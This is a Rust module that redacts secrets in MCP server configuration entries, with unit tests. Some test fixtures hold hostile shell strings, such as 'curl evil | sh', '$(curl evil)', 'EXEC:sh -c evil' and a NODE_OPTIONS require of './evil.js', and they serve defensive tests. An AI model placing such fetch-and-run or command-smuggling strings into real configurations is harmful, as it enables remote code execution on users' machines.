//! Secrets in a server's entry, found by where they stand.

use std::collections::BTreeMap;
use std::ops::Range;

use percent_encoding::percent_decode_str;
use serde_json::{Map, Value};

use super::code::without_code;
use super::names::is_secret_name;
use super::plain::{is_path_setting, is_plain, is_random, is_words};
use super::shape::{each_secret, merged, replace_ranges};
use crate::entry::{
    HttpEntry, IdeEntry, ServerEntry, ServerUrl, StdioEntry, TransportEntry, WsEntry,
};
use crate::secret::{HIDDEN, Secret};

/// How much of an entry is masked.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RedactMode {
    /// Every value of `env` and `headers` that may be a secret, for lists, previews and logs.
    Display,
    /// Only values that are secrets by name or shape: a person who approves an entry must see which code runs, so that
    /// `NODE_OPTIONS` stays readable. Outside of `url` and `headers`, which run nothing, only single words made of the
    /// characters of tokens are masked, and no paths: whatever could be code stays.
    Approval,
}

/// Schemes that precede a secret in a header and are none themselves.
const SCHEMES: [&str; 4] = ["bearer ", "basic ", "token ", "apikey "];

/// Headers that hold no secret.
const OPEN_HEADERS: [&str; 7] = [
    "accept",
    "accept-encoding",
    "accept-language",
    "cache-control",
    "content-type",
    "origin",
    "user-agent",
];

/// Puts `***` in place of the secrets in an entry. References such as `${TOKEN}` are no secrets and stay; the default in
/// `${TOKEN:-default}` is one where the value would be.
///
/// ```
/// use serde_json::json;
/// use trunkline_config::redact::{RedactMode, redact_entry};
///
/// let mut entry = json!({"command": "docker", "args": ["run", "-e", "GITHUB_TOKEN=abc", "image"]});
/// redact_entry(&mut entry, RedactMode::Display);
/// assert_eq!(entry["args"], json!(["run", "-e", "GITHUB_TOKEN=***", "image"]));
/// ```
pub fn redact_entry(entry: &mut Value, mode: RedactMode) {
    redact_entry_with(entry, mode, |_| HIDDEN.to_owned());
}

/// As [`redact_entry`], with each secret replaced by what `replace` makes of it, for example a hash.
pub fn redact_entry_with(
    entry: &mut Value,
    mode: RedactMode,
    mut replace: impl FnMut(&str) -> String,
) {
    let mut masker = Masker {
        mode,
        replace: &mut replace,
    };
    if let Value::Object(fields) = entry {
        masker.fields(fields);
    }
}

/// A URL without its user information, the values of its query, and its fragment. References stay.
///
/// ```
/// use trunkline_config::redact::redact_url;
///
/// assert_eq!(redact_url("https://me:pw@host/mcp?key=abc"), "https://***@host/mcp?key=***");
/// assert_eq!(redact_url("https://host/?k=${KEY:-abc}"), "https://host/?k=${KEY:-***}");
/// ```
pub fn redact_url(text: &str) -> String {
    let mut replace = |_: &str| HIDDEN.to_owned();
    replace_ranges(text, &merged(url_ranges(text)), &mut replace).into_owned()
}

/// The secrets of an entry whose references have been filled in, and of the environment that its process inherits: what a
/// log must never show.
pub fn entry_secrets(entry: &ServerEntry) -> Vec<String> {
    let mut found = Vec::new();
    match &entry.transport {
        TransportEntry::Stdio(StdioEntry {
            command, args, env, ..
        }) => {
            found.extend(env_secrets(env));
            let mut words = [command]
                .into_iter()
                .chain(args)
                .map(|word| Value::String(word.clone()))
                .collect::<Vec<_>>();
            let mut collect = |secret: &str| {
                found.push(secret.to_owned());
                String::new()
            };
            let mut masker = Masker {
                mode: RedactMode::Display,
                replace: &mut collect,
            };
            masker.args(&mut words);
            found.extend(inherited());
        }
        TransportEntry::Http(HttpEntry {
            url,
            headers,
            headers_helper,
            ..
        })
        | TransportEntry::Ws(WsEntry {
            url,
            headers,
            headers_helper,
            ..
        }) => {
            found.extend(url_secrets(url));
            let headers = headers.iter();
            found.extend(headers.flat_map(|(name, value)| header_secrets(name, value.expose())));
            let helper = headers_helper.as_deref().unwrap_or_default();
            let ranges = merged(command_ranges(helper)).into_iter();
            found.extend(ranges.map(|range| helper[range].to_owned()));
        }
        TransportEntry::Ide(IdeEntry {
            url, auth_token, ..
        }) => {
            found.extend(url_secrets(url));
            found.extend(auth_token.iter().map(|token| token.expose().to_owned()));
        }
        TransportEntry::ClaudeAiProxy { url, proxy, .. } => {
            found.extend(url_secrets(url));
            found.extend(proxy.iter().flat_map(url_secrets));
        }
        TransportEntry::Sdk => {}
    }
    found
}

/// The secrets in a header: its value, and the part behind the scheme.
pub fn header_secrets(name: &str, value: &str) -> Vec<String> {
    if OPEN_HEADERS.contains(&name.to_lowercase().as_str()) {
        return Vec::new();
    }
    let (scheme, secret) = value.trim().split_at(scheme_end(value.trim()));
    let mut found = vec![value.to_owned()];
    if !scheme.is_empty() {
        found.push(secret.trim().to_owned());
    }
    found
}

fn env_secrets(env: &BTreeMap<String, Secret>) -> impl Iterator<Item = String> {
    let is_setting = |name: &str, value: &str| {
        is_path_setting(name, value)
            || !is_secret_name(name) && (is_plain(value) || is_words(value))
    };
    env.iter()
        .filter(move |(name, value)| !is_setting(name, value.expose()))
        .map(|(_, value)| value.expose().to_owned())
}

/// Variables of our own environment with telling names: a child inherits them.
fn inherited() -> impl Iterator<Item = String> {
    std::env::vars_os()
        .filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)))
        .filter(|(name, value)| is_secret_name(name) && !is_path_setting(name, value))
        .map(|(_, value)| value)
}

/// The password of a URL, as it is and as it is written, and the values of the query that are no ordinary words.
fn url_secrets(url: &ServerUrl) -> Vec<String> {
    let Ok(url) = url.parse() else {
        return Vec::new();
    };
    let password = url.password().into_iter().flat_map(|password| {
        let decoded = percent_decode_str(password).decode_utf8_lossy();
        [password.to_owned(), decoded.into_owned()]
    });
    let query = url
        .query_pairs()
        .filter(|(name, value)| {
            let open = is_plain(value) || is_words(value);
            is_secret_name(name) || name == "key" || !open
        })
        .map(|(_, value)| value.into_owned());
    password.chain(query).collect()
}

/// Replaces the secrets in the parts of an entry.
struct Masker<'a> {
    mode: RedactMode,
    replace: &'a mut dyn FnMut(&str) -> String,
}

impl Masker<'_> {
    fn fields(&mut self, fields: &mut Map<String, Value>) {
        for (name, value) in fields {
            match (name.as_str(), value) {
                ("env", Value::Object(variables)) => {
                    for (name, value) in variables {
                        self.env(name, value);
                    }
                }
                ("headers", Value::Object(headers)) => {
                    for (name, value) in headers {
                        self.header(name, value);
                    }
                }
                ("args", Value::Array(args)) => self.args(args),
                ("url", Value::String(url)) => self.mask(url, url_ranges(url)),
                ("command" | "headersHelper", Value::String(command)) => {
                    self.put(command, command_ranges);
                }
                (name, value) => self.member(name, value),
            }
        }
    }

    /// Masks what `find` finds in a text that may be code, or part of some.
    fn put(&mut self, text: &mut String, find: impl Fn(&str) -> Vec<Range<usize>>) {
        let ranges = find(text);
        let ranges = match self.mode {
            RedactMode::Display => ranges,
            RedactMode::Approval => without_code(text, ranges),
        };
        self.mask(text, ranges);
    }

    fn mask(&mut self, text: &mut String, ranges: Vec<Range<usize>>) {
        let ranges = merged(ranges);
        if !ranges.is_empty() {
            *text = replace_ranges(text, &ranges, self.replace).into_owned();
        }
    }

    /// A value of a member that has no rules of its own.
    fn member(&mut self, name: &str, value: &mut Value) {
        match value {
            Value::Object(members) => {
                for (name, value) in members {
                    self.member(name, value);
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.member(name, item);
                }
            }
            Value::String(text) if is_secret_name(name) && !is_path_setting(name, text) => {
                self.put(text, value_ranges);
            }
            Value::String(text) => self.put(text, command_ranges),
            Value::Number(number) if is_secret_name(name) => {
                *value = (self.replace)(&number.to_string()).into();
            }
            Value::Number(_) | Value::Bool(_) | Value::Null => {}
        }
    }

    fn env(&mut self, name: &str, value: &mut Value) {
        let text = match value {
            Value::String(text) => text,
            value => return self.member(name, value),
        };
        let is_secret = is_secret_name(name) && !is_path_setting(name, text);
        match self.mode {
            RedactMode::Display if is_secret || !is_plain(text) => self.put(text, value_ranges),
            RedactMode::Approval if is_secret => self.put(text, |text| {
                let mut ranges = value_ranges(text);
                ranges.extend(command_ranges(text));
                ranges
            }),
            RedactMode::Display | RedactMode::Approval => self.put(text, command_ranges),
        }
    }

    fn header(&mut self, name: &str, value: &mut Value) {
        if OPEN_HEADERS.contains(&name.to_lowercase().as_str()) {
            return;
        }
        match value {
            Value::String(text) => self.mask(text, value_ranges(text)),
            value => *value = (self.replace)(&value.to_string()).into(),
        }
    }

    /// Arguments of a command: values of telling flags, of `-e NAME=value` and of `--header "Name: value"`, and whatever
    /// looks like a secret by itself.
    fn args(&mut self, args: &mut [Value]) {
        let mut before = Flag::Other;
        for arg in args {
            let Value::String(text) = arg else {
                before = Flag::Other;
                continue;
            };
            let (flag, start) = match Flag::of(text) {
                Some(flag) => flag,
                None => (std::mem::replace(&mut before, Flag::Other), 0),
            };
            // The value is the next argument.
            if start == text.len() {
                before = flag;
                continue;
            }
            before = Flag::Other;
            let mode = self.mode;
            self.put(text, |text| arg_ranges(text, start, flag, mode));
        }
    }
}

/// What the value of a flag is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Flag {
    /// `NAME=value`.
    Env,
    /// `Name: value`.
    Header,
    /// `user:password`.
    User,
    Secret,
    /// A flag that is not telling.
    Plain,
    /// No flag came before.
    Other,
}

impl Flag {
    /// The flag that an argument begins with, and where its value begins; at the end if it is the next argument.
    fn of(arg: &str) -> Option<(Self, usize)> {
        if !arg.starts_with('-') || arg.len() < 2 {
            return None;
        }
        // `-eNAME=value` and `-HName: value`.
        for (short, flag) in [("-e", Self::Env), ("-H", Self::Header)] {
            if let Some(value) = arg.strip_prefix(short)
                && value.starts_with(|c: char| c.is_ascii_alphabetic())
                && value.contains(['=', ':'])
            {
                return Some((flag, short.len()));
            }
        }
        let end = arg
            .find(|c: char| c == '=' || c.is_whitespace())
            .unwrap_or(arg.len());
        let flag = match arg[..end].trim_start_matches('-') {
            "e" | "env" | "env-var" | "environment" => Self::Env,
            "H" | "header" | "headers" => Self::Header,
            "u" | "user" => Self::User,
            name if is_secret_name(name) => Self::Secret,
            _ => Self::Plain,
        };
        Some((flag, (end + 1).min(arg.len())))
    }
}

/// The secrets in an argument whose value begins at `start`.
fn arg_ranges(text: &str, start: usize, flag: Flag, mode: RedactMode) -> Vec<Range<usize>> {
    let value = &text[start..];
    let after = |at: usize| {
        let rest = &value[at..];
        let at = at + rest.len() - rest.trim_start().len();
        let ranges = value_ranges(&value[at..]).into_iter();
        ranges
            .map(|range| range.start + at..range.end + at)
            .collect()
    };
    let by_position: Vec<Range<usize>> = match flag {
        Flag::Secret => value_ranges(value),
        Flag::Env | Flag::Plain | Flag::Other => match value.split_once('=') {
            Some((name, setting)) => {
                let is_secret = is_secret_name(name) && !is_path_setting(name, setting);
                let hidden = flag == Flag::Env
                    && mode == RedactMode::Display
                    && !is_plain(setting)
                    && !is_words(setting);
                let is_word = flag == Flag::Env && mode == RedactMode::Display;
                let code = !is_word && has_shell_syntax(setting);
                if (is_secret || hidden) && !code && !name.contains(char::is_whitespace) {
                    after(name.len() + 1)
                } else {
                    Vec::new()
                }
            }
            None if flag == Flag::Plain && is_random(value) => value_ranges(value),
            None => Vec::new(),
        },
        Flag::Header => match value.split_once(':') {
            Some((name, _)) if OPEN_HEADERS.contains(&name.trim().to_lowercase().as_str()) => {
                Vec::new()
            }
            Some((name, _)) => after(name.len() + 1),
            None => Vec::new(),
        },
        Flag::User => match value.split_once(':') {
            // `socat -u EXEC:program -`
            Some((name, _)) if mode == RedactMode::Approval && is_start(name) => Vec::new(),
            Some((name, _)) => after(name.len() + 1),
            None => Vec::new(),
        },
    };
    let by_position = by_position.into_iter();
    let mut ranges: Vec<_> = by_position
        .map(|range| range.start + start..range.end + start)
        .collect();
    ranges.extend(command_ranges(text));
    ranges
}

/// Whether what follows a name and a colon is started as a program.
fn is_start(name: &str) -> bool {
    let mut starts = ["exec", "system", "shell"].iter();
    starts.any(|start| name.trim().eq_ignore_ascii_case(start))
}

/// The whole value without its references, and without the scheme in front of it.
fn value_ranges(text: &str) -> Vec<Range<usize>> {
    let start = scheme_end(text);
    if start == text.len() {
        return Vec::new();
    }
    let whole = start..text.len();
    without_references(text, &[whole])
}

/// What looks like a secret in text of an entry, where references are none.
fn command_ranges(text: &str) -> Vec<Range<usize>> {
    let mut ranges = each_secret(text);
    ranges.retain(|range| !text[range.clone()].starts_with(['`', '(']));
    without_references(text, &ranges)
}

/// The user information, the values of the query, and the fragment.
fn url_ranges(text: &str) -> Vec<Range<usize>> {
    let mut ranges = Vec::new();
    let end = text.find('#').unwrap_or(text.len());
    ranges.push((end + 1).min(text.len())..text.len());
    let before = text[..end].find('?').unwrap_or(end);
    // A URL parser takes any run of slashes, in either direction, and none at all.
    if let Some((scheme, rest)) = text[..before].split_once(':')
        && scheme.chars().all(|c| c.is_ascii_alphanumeric())
    {
        let authority = rest.trim_start_matches(['/', '\\']);
        let start = before - authority.len();
        let authority = &authority[..authority.find(['/', '\\']).unwrap_or(authority.len())];
        if let Some(at) = authority.rfind('@') {
            ranges.push(start..start + at);
        }
    }
    let mut start = (before + 1).min(end);
    for pair in text[start..end].split('&') {
        let name = pair.find('=').map_or(0, |at| at + 1);
        ranges.push(start + name..start + pair.len());
        start += pair.len() + 1;
    }
    ranges.extend(each_secret(text));
    without_references(text, &ranges)
}

/// The length of `Bearer ` and the like at the beginning of a text.
pub(super) fn scheme_end(text: &str) -> usize {
    let is_scheme = |scheme: &&&str| {
        text.get(..scheme.len())
            .is_some_and(|start| start.eq_ignore_ascii_case(scheme))
    };
    SCHEMES.iter().find(is_scheme).map_or(0, |it| it.len())
}

/// Whether a shell would do more with a text than take it as a word.
fn has_shell_syntax(text: &str) -> bool {
    let references = references(text);
    let is_reference = |at: usize| {
        let next = references.partition_point(|reference| reference.end <= at);
        references
            .get(next)
            .is_some_and(|range| range.contains(&at))
    };
    let is_syntax = |c: char| c.is_whitespace() || "`;|&<>(){}\\".contains(c);
    text.char_indices()
        .any(|(at, c)| is_syntax(c) && !is_reference(at))
}

/// The ranges less the references in them: whoever sends a secret somewhere must not be able to hide which.
fn without_references(text: &str, ranges: &[Range<usize>]) -> Vec<Range<usize>> {
    let references = references(text);
    let mut left = Vec::with_capacity(ranges.len());
    for range in ranges {
        let mut start = range.start;
        let first = references.partition_point(|reference| reference.end <= start);
        for reference in &references[first..] {
            if reference.start >= range.end {
                break;
            }
            left.push(start..reference.start.max(start));
            start = reference.end;
        }
        left.push(start..range.end.max(start));
    }
    left.retain(|range| !range.is_empty());
    left
}

/// `${NAME}`, `$NAME`, and of `${NAME:-default}` all but the default.
fn references(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    // No brace closes a reference any more, so that none is looked for again.
    let mut open = false;
    let mut at = 0;
    while let Some(dollar) = text[at..].find('$') {
        let start = at + dollar;
        let rest = &text[start + 1..];
        at = start + 1;
        if let Some(inside) = rest.strip_prefix('{') {
            let Some(length) = Some(inside).filter(|_| !open).and_then(|it| it.find('}')) else {
                open = true;
                continue;
            };
            let end = start + 2 + length + 1;
            match inside[..length].find(":-") {
                Some(default) => {
                    found.push(start..start + 2 + default + 2);
                    found.push(end - 1..end);
                }
                None => found.push(start..end),
            }
            at = end;
        } else {
            // Lower case is rather a part of a password.
            let is_name = |c: char| c == '_' || c.is_ascii_uppercase() || c.is_ascii_digit();
            let length = rest.find(|c| !is_name(c)).unwrap_or(rest.len());
            let is_end = !rest[length..].starts_with(|c: char| c.is_alphanumeric());
            if length > 0 && is_end && !rest.starts_with(|c: char| c.is_ascii_digit()) {
                found.push(start..start + 1 + length);
                at = start + 1 + length;
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::entry::HttpFlavour;

    fn shown(mut entry: Value, mode: RedactMode) -> Value {
        redact_entry(&mut entry, mode);
        entry
    }

    #[test]
    fn arguments_show_no_secrets() {
        for (args, expected) in [
            (
                json!(["--api-key", "abc", "--token=def", "--port", "80"]),
                json!(["--api-key", "***", "--token=***", "--port", "80"]),
            ),
            (
                json!(["--key", "file.pem", "-v", "--password", "--other"]),
                json!(["--key", "file.pem", "-v", "--password", "--other"]),
            ),
            (
                json!(["--auth-token", "${TOKEN}", 5]),
                json!(["--auth-token", "${TOKEN}", 5]),
            ),
            (
                json!(["--auth-token", "${TOKEN:-abc}"]),
                json!(["--auth-token", "${TOKEN:-***}"]),
            ),
            (
                json!(["run", "-e", "GITHUB_TOKEN=abc", "-e", "DEBUG=1", "img"]),
                json!(["run", "-e", "GITHUB_TOKEN=***", "-e", "DEBUG=1", "img"]),
            ),
            (
                json!(["-e", "GITHUB_TOKEN", "-eAPI_KEY=abc", "--env=X_SECRET=abc"]),
                json!(["-e", "GITHUB_TOKEN", "-eAPI_KEY=***", "--env=X_SECRET=***"]),
            ),
            (
                json!(["-e", "URL=http://h/x", "-e", "X=aB3xY9kQ2z"]),
                json!(["-e", "URL=http://h/x", "-e", "X=***"]),
            ),
            (
                json!(["--header", "Authorization: Bearer abc"]),
                json!(["--header", "Authorization: Bearer ***"]),
            ),
            (
                json!(["-H", "X-Org: a b", "--header=Accept: x/y", "-HX-Y:${A}"]),
                json!(["-H", "X-Org: ***", "--header=Accept: x/y", "-HX-Y:${A}"]),
            ),
            (
                json!(["postgresql://user:pw@db.example/app"]),
                json!(["postgresql://***@db.example/app"]),
            ),
            (
                json!(["-u", "me:pw", "https://h/?key=abc&x=1"]),
                json!(["-u", "me:***", "https://h/?key=***&x=1"]),
            ),
            (
                json!(["--dsn", "xY7kQ2zaB3mN5pL8wR1tV", "ghp_16C7e42F292c69"]),
                json!(["--dsn", "***", "***"]),
            ),
            (
                json!(["-y", "@scope/server@1.2.3", "/home/me/project", "a=b"]),
                json!(["-y", "@scope/server@1.2.3", "/home/me/project", "a=b"]),
            ),
            (
                json!(["-c", "TOKEN=abc node x.js; curl evil"]),
                json!(["-c", "TOKEN=*** node x.js; curl evil"]),
            ),
        ] {
            let entry = json!({"command": "x", "args": args});
            assert_eq!(shown(entry, RedactMode::Display)["args"], expected);
        }
    }

    #[test]
    fn values_of_env_and_headers_are_hidden_unless_they_are_settings() {
        let entry = json!({
            "env": {"A": "plain", "B": "${A}", "C": "x${A}y$B", "D": "${A:-secret}", "E": "a$", "F": "${open",
                "G": "", "PORT": "3000", "ON": "true", "DIR": "/home/me/x", "URL": "https://h/x", "PIN": "1234",
                "GOOGLE_APPLICATION_CREDENTIALS": "/home/me/key.json", "N": 5, "P": "pa$word1"},
            "headers": {"A": "v", "B": "Bearer ${keyring:a/b}", "C": "Bearer v", "D": 5, "Accept": "x/y", "E": "${X:-v}"},
        });
        let expected = json!({
            "env": {"A": "***", "B": "${A}", "C": "***${A}***$B", "D": "${A:-***}", "E": "***", "F": "***",
                "G": "", "PORT": "3000", "ON": "true", "DIR": "/home/me/x", "URL": "https://h/x", "PIN": "***",
                "GOOGLE_APPLICATION_CREDENTIALS": "/home/me/key.json", "N": 5, "P": "***"},
            "headers": {"A": "***", "B": "Bearer ${keyring:a/b}", "C": "Bearer ***", "D": "***", "Accept": "x/y", "E": "${X:-***}"},
        });
        assert_eq!(shown(entry, RedactMode::Display), expected);
    }

    #[test]
    fn an_approval_shows_which_code_runs() {
        let entry = json!({
            "command": "sh",
            "args": ["-c", "TOKEN=`curl evil` x", "--token", "$(curl evil | sh)", "--password", "abc", "--token", "${A:-abc}"],
            "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "abc", "A_SECRET": "$(curl evil)"},
            "headersHelper": "echo '{\"Authorization\": \"Bearer abc\"}'; curl evil",
        });
        let expected = json!({
            "command": "sh",
            "args": ["-c", "TOKEN=`curl evil` x", "--token", "$(curl evil | sh)", "--password", "***", "--token", "${A:-***}"],
            "env": {"NODE_OPTIONS": "--require ./evil.js", "TOKEN": "***", "A_SECRET": "$(curl evil)"},
            "headersHelper": "echo '{\"Authorization\": \"Bearer ***\"}'; curl evil",
        });
        assert_eq!(shown(entry, RedactMode::Approval), expected);
    }

    #[test]
    fn an_approval_hides_no_code_behind_a_telling_name() {
        for code in [
            "TOKEN=\"$(curl evil|sh)\" node x.js",
            "TOKEN='$(curl evil)' node x.js",
            "API_TOKEN=x$(./evil.sh) node s.js",
            "API_TOKEN=x`./evil.sh` node s.js",
            "API_TOKEN=\"\"./evil.sh",
            "TOKEN=a|./evil.sh",
            "TOKEN=a\\;evil",
            "token=load'./evil.rb'",
            "token=load' ./evil.rb'",
            "$token=do\"./e.pl\"",
            "token=load(evil)",
            "token=\"a b; evil\"",
            "{\"token\": \"$(evil)\"}",
            "{\"token\": \"`evil`\"}",
            "{\"token\": evil()}",
            "x({'password': require('./e')})",
            "run --token Abc12345$(evil)",
            "run --token Abc12345`evil`",
            "X-Api-Key: a1b2c3d4e5$(evil)",
            "curl -H 'Authorization: Bearer abcdefgh$(evil)'",
            "https://$(evil)@host/",
            "https://h/?key=$(evil)",
            "https://h/?key=a;evil",
            "--token=./evil.sh",
            "--password=bin/evil",
            "--secret=evil.js",
        ] {
            for entry in [
                json!({"command": "sh", "args": ["-c", code]}),
                json!({"command": "ruby", "args": ["-e", code]}),
                json!({"command": "x", "args": [code]}),
                json!({"command": code}),
                json!({"headersHelper": code}),
                json!({"env": {"A_TOKEN": code}}),
                json!({"env": {"A": code}}),
                json!({"other": {"token": code}}),
            ] {
                assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
            }
        }
        for args in [
            json!(["-u", "EXEC:sh -c evil", "-"]),
            json!(["-u", "EXEC:./evil", "-"]),
            json!(["-u", "system:evil", "-"]),
            json!(["-H", "X: $(evil)"]),
            json!(["--header=X: a b"]),
            json!(["--token", "./evil.js"]),
            json!(["--token", "evil 'x'"]),
        ] {
            let entry = json!({"command": "socat", "args": args});
            assert_eq!(shown(entry.clone(), RedactMode::Approval), entry);
        }
    }

    #[test]
    fn an_approval_shows_no_plain_secrets() {
        for (arg, expected) in [
            ("TOKEN=abc node x.js; evil", "TOKEN=*** node x.js; evil"),
            ("TOKEN=\"abc\" node x.js", "TOKEN=*** node x.js"),
            ("TOKEN=\"Bearer abc\" x", "TOKEN=\"Bearer ***\" x"),
            ("export 'TOKEN=abc'; x", "export 'TOKEN=***'; x"),
            ("{\"token\": \"abc\"}", "{\"token\": \"***\"}"),
            (r#"{\"token\":\"abc\"}"#, r#"{\"token\":\"***\"}"#),
            (
                "curl -H \"Authorization: Bearer abcdefgh\" x",
                "curl -H \"Authorization: Bearer ***\" x",
            ),
            ("x --token Abc12345 y", "x --token *** y"),
            ("https://u:p@h/?key=abc&x=1", "https://***@h/?key=***&x=1"),
            ("https://h/ghp_16C7e42F292c69/x", "https://h/***/x"),
            ("TOKEN=${A:-abc} x", "TOKEN=${A:-***} x"),
            (
                "TOKEN=\"$(evil ghp_16C7e42F292c69)\"",
                "TOKEN=\"$(evil ***)\"",
            ),
        ] {
            let entry = json!({"command": "sh", "args": ["-c", arg]});
            let shown = shown(entry, RedactMode::Approval);
            assert_eq!(shown["args"][1], expected);
        }
        let entry = json!({
            "args": ["-u", "me:pw", "-H", "Authorization: Bearer abc", "-eA_TOKEN=abc", "--password", "aB3+y/z9Kq="],
            "url": "https://u:p$w@h/?k=a b", "headers": {"A": "b c"}, "env": {"TOKEN": "abc"},
        });
        let expected = json!({
            "args": ["-u", "me:***", "-H", "Authorization: Bearer ***", "-eA_TOKEN=***", "--password", "***"],
            "url": "https://***@h/?k=***", "headers": {"A": "***"}, "env": {"TOKEN": "***"},
        });
        assert_eq!(shown(entry, RedactMode::Approval), expected);
    }

    #[test]
    fn other_fields_are_looked_into() {
        let entry = json!({
            "url": "https://u:pw@h/${A}?k=${X:-abc}&l=v&flag#f",
            "authToken": "abc", "oauth": {"clientId": "id", "clientSecret": "abc", "callbackPort": 3},
            "sandbox": {"env": ["A_TOKEN=abc"], "apiKey": 12}, "timeout": 5,
        });
        let expected = json!({
            "url": "https://***@h/${A}?k=${X:-***}&l=***&***#***",
            "authToken": "***", "oauth": {"clientId": "id", "clientSecret": "***", "callbackPort": 3},
            "sandbox": {"env": ["A_TOKEN=***"], "apiKey": "***"}, "timeout": 5,
        });
        assert_eq!(shown(entry, RedactMode::Display), expected);
    }

    #[test]
    fn urls_show_no_credentials() {
        for (url, shown) in [
            ("https://host/mcp", "https://host/mcp"),
            ("https://u:p@host:1/mcp", "https://***@host:1/mcp"),
            ("https://a@b@host/x@y", "https://***@host/x@y"),
            (
                "https://h/?k=v&flag&x=${KEY}",
                "https://h/?k=***&***&x=${KEY}",
            ),
            ("https://h/#token=1", "https://h/#***"),
            ("https:u:p@h/x", "https:***@h/x"),
            ("https:/\\u:p@h/x", "https:/\\***@h/x"),
            ("https://h/ghp_16C7e42F292c69/mcp", "https://h/***/mcp"),
            ("nonsense", "nonsense"),
            ("", ""),
        ] {
            assert_eq!(redact_url(url), shown);
        }
    }

    #[test]
    fn the_secrets_of_an_entry_are_collected() {
        let mut http = HttpEntry::at(HttpFlavour::Either, "https://u:pass%21@h/?key=k1&k2&v=1");
        for (name, value) in [
            ("A", "Bearer tok"),
            ("B", "two words"),
            ("Accept", "application/json"),
        ] {
            http.headers.insert(name.to_owned(), Secret::new(value));
        }
        let entry = ServerEntry::new("s", TransportEntry::Http(http));
        assert_eq!(
            entry_secrets(&entry),
            ["pass%21", "pass!", "k1", "Bearer tok", "tok", "two words"]
        );
        let args = ["--token", "abc", "-e", "K_SECRET=def", "plain"];
        let mut entry = ServerEntry::stdio("s", "x", args);
        let env = [
            ("A", "production"),
            ("B", "s3cr3t"),
            ("C_PASSWORD", "word"),
            ("LEVEL", "warn"),
            ("ROOT", "/home/me/project"),
            ("PORT", "3000"),
        ];
        if let TransportEntry::Stdio(stdio) = &mut entry.transport {
            let env = env.map(|(name, value)| (name.to_owned(), Secret::new(value)));
            stdio.env.extend(env);
        }
        assert_eq!(entry_secrets(&entry)[..4], ["s3cr3t", "word", "abc", "def"]);
    }
}
